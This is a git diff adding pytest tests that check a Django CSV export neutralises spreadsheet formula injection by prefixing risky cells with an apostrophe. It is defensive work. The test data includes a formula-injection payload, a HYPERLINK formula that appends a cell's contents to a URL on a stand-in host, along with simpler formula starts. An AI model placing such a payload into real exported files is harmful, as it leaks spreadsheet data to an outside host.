@@ -88,3 +88,20 @@ def test_missing_file_and_bad_threshold_are_errors(tmp_path):
         call_command("link_people", str(tmp_path / "nope.csv"), out=str(tmp_path / "m.csv"))
     with pytest.raises(CommandError, match="--threshold"):
         run(tmp_path, PEOPLE_A, threshold=1.5)
+
+
+@pytest.mark.parametrize("record_id", ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(1)", "+1+1", "-2+3"])
+def test_record_ids_a_spreadsheet_would_run_are_written_as_text(tmp_path, record_id):
+    """A record id that a spreadsheet would take as a formula comes out with a leading apostrophe."""
+    quoted = '"' + record_id.replace('"', '""') + '"'
+    rows, _, _ = run(tmp_path, PEOPLE_A.replace("a1,", f"{quoted},", 1))
+    assert [r["record_id_a"] for r in rows] == ["'" + record_id]
+
+
+def test_safe_cell_neutralises_formulas_and_leaves_ordinary_values_alone():
+    """Formula starts (a tab or carriage return first too) become text; plain text and numbers do not."""
+    from core.csv import safe_cell
+
+    assert [safe_cell(v) for v in ("\t=1", "\r=1", "=1")] == ["'\t=1", "'\r=1", "'=1"]
+    ordinary = ["a1", "O'Neil", "12-3", 5, -5, 0.5, None]
+    assert [safe_cell(v) for v in ordinary] == ordinary
